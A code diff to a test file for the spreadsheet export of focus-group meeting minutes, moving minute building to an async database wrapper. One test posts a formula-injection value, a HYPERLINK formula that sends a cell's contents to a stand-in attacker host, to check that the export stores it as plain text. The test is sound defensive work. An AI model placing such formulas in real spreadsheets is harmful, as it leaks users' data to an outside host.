@@ -1,3 +1,4 @@
+import { kysely } from '$lib/testing/orgs';
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -46,8 +47,8 @@ let book: Map<string, string>;
 
 beforeAll(async () => {
 	fgd = await facilitatedFgd();
-	id = buildMinutes(fgd.db, fgd.session.id, 'id', NOW);
-	en = buildMinutes(fgd.db, fgd.session.id, 'en', NOW);
+	id = await buildMinutes(kysely(fgd.db), fgd.session.id, 'id', NOW);
+	en = await buildMinutes(kysely(fgd.db), fgd.session.id, 'en', NOW);
 	book = await openXlsx(await renderXlsx(id));
 });
 
@@ -58,7 +59,7 @@ describe('text cells', () => {
 		await small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
 		await small.post(ani, 'kendala', '-5% bunga untuk UMKM');
 		await small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
-		const book = await loadBook(await renderXlsx(buildMinutes(small.db, small.session.id, 'id', NOW)));
+		const book = await loadBook(await renderXlsx(await buildMinutes(kysely(small.db), small.session.id, 'id', NOW)));
 		const cells = book.getWorksheet('Masukan')!.getColumn(4).values.filter((v) => v !== undefined && v !== null);
 		expect(cells).toContain('=HYPERLINK("http://evil.example/?d="&A1,"klik")');
 		expect(cells).toContain('-5% bunga untuk UMKM');
@@ -94,14 +95,14 @@ describe('XLSX', () => {
 		}
 	});
 
-	it('lists the attendance with an empty signature column', () => {
+	it('lists the attendance with an empty signature column', async () => {
 		const people = rows(book.get('Daftar hadir')!);
 		expect(people[0]).toEqual(['No', 'Nama', 'Jabatan', 'Instansi', 'Kelompok', 'L/P', 'Keterangan', 'Tanda tangan']);
 		expect(people).toHaveLength(id.attendance.total + 1);
 		expect(book.get('Daftar hadir')).toMatch(/<c r="A2"[^>]*><v>1<\/v>/);
 	});
 
-	it('types a known item with its vote count as a number', () => {
+	it('types a known item with its vote count as a number', async () => {
 		const xml = book.get('Masukan')!;
 		const row = rows(xml).find((r) => r[3] === 'Akses modal usaha sulit tanpa agunan')!;
 		// Both contributors of the merged item, and the count of items combined as the console gives it.
@@ -119,7 +120,7 @@ describe('XLSX', () => {
 		expect(rows((await openXlsx(await renderXlsx(en))).get('Contributions')!)[0][7]).toBe('Supported by (participants)');
 	});
 
-	it('links a recommendation to the constraint it addresses', () => {
+	it('links a recommendation to the constraint it addresses', async () => {
 		expect(rows(book.get('Keterkaitan')!)).toContainEqual([
 			'Skema kredit lunak berbasis kelompok dengan pendampingan kampus',
 			'menjawab',
@@ -138,12 +139,12 @@ describe('XLSX', () => {
 		expect(styles).toContain('formatCode="&quot;Rp&quot; #,##0"');
 	});
 
-	it('writes the session start as a date', () => {
+	it('writes the session start as a date', async () => {
 		// 24 Oct 2025 09:00 is Excel serial 45954.375.
 		expect(book.get('Rincian')).toMatch(/<c r="B4"[^>]*><v>45954\.375<\/v>/);
 	});
 
-	it('keeps an anonymous author out of everything but the attendance list', () => {
+	it('keeps an anonymous author out of everything but the attendance list', async () => {
 		for (const [name, xml] of book) if (name !== 'Daftar hadir') expect(xml).not.toContain('Rini');
 		expect(book.get('Daftar hadir')).toContain('Rini Anggraini');
 	});
@@ -184,7 +185,7 @@ describe('the Tema sheet', () => {
 		await small.run('facilitator', { type: 'phase.set', phase: 'voting' });
 		await small.run('facilitator', { type: 'voting.settings', target: 'themes' });
 		await small.run(ani, { type: 'vote.set', targetId: theme.id, count: 3 });
-		expect(await themeSheet(buildMinutes(small.db, small.session.id, 'en', NOW))).toEqual([
+		expect(await themeSheet(await buildMinutes(kysely(small.db), small.session.id, 'en', NOW))).toEqual([
 			['No', 'Theme', 'Contributions', 'Votes'],
 			[1, 'Permodalan', 0, 3]
 		]);
@@ -193,6 +194,6 @@ describe('the Tema sheet', () => {
 	it('has no votes column when nobody voted', async () => {
 		const small = await sampleFgd();
 		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
-		expect((await themeSheet(buildMinutes(small.db, small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
+		expect((await themeSheet(await buildMinutes(kysely(small.db), small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
 	});
 });
